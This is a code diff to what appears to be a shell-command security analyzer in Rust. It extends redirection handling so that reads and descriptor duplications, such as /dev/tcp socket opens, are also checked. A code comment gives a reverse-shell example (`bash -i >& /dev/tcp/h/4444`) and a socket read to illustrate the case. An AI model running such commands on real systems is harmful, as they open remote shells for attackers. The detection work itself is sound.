@@ -458,12 +458,26 @@ impl<'a> Analyzer<'a> {
                     IoFileRedirectKind::Clobber => "clobber",
                     IoFileRedirectKind::Append => "append",
                     IoFileRedirectKind::ReadAndWrite => "readwrite",
-                    IoFileRedirectKind::Read
-                    | IoFileRedirectKind::DuplicateInput
-                    | IoFileRedirectKind::DuplicateOutput => "",
+                    // Reads matter too: bash opens a socket for `/dev/tcp/...` whatever the
+                    // direction (`cat < /dev/tcp/h/80`, `bash -i >& /dev/tcp/h/4444`).
+                    IoFileRedirectKind::Read => "read",
+                    IoFileRedirectKind::DuplicateInput | IoFileRedirectKind::DuplicateOutput => {
+                        "duplicate"
+                    }
                 };
                 match target {
                     IoFileRedirectTarget::Filename(w) => (kind, w),
+                    // `>& word` / `<& word` where the word is a file name, not a descriptor.
+                    IoFileRedirectTarget::Duplicate(w)
+                        if !w.value.is_empty()
+                            && !w
+                                .value
+                                .trim_end_matches('-')
+                                .bytes()
+                                .all(|b| b.is_ascii_digit()) =>
+                    {
+                        ("duplicate", w)
+                    }
                     IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                         self.subshell(sub);
                         return;
@@ -475,14 +489,13 @@ impl<'a> Analyzer<'a> {
             IoRedirect::HereDocument(..) | IoRedirect::HereString(..) => return,
         };
         let target = self.expand(&word.value);
-        if kind.is_empty() {
-            return;
-        }
         let classes = words::classes(&target, &self.cwd, self.rules, self.workspace_dir);
         let symbol = match kind {
             "append" => ">>",
             "clobber" => ">|",
             "readwrite" => "<>",
+            "read" => "<",
+            "duplicate" => ">&",
             _ => ">",
         };
         let shown = format!("{symbol} {}", target.display());
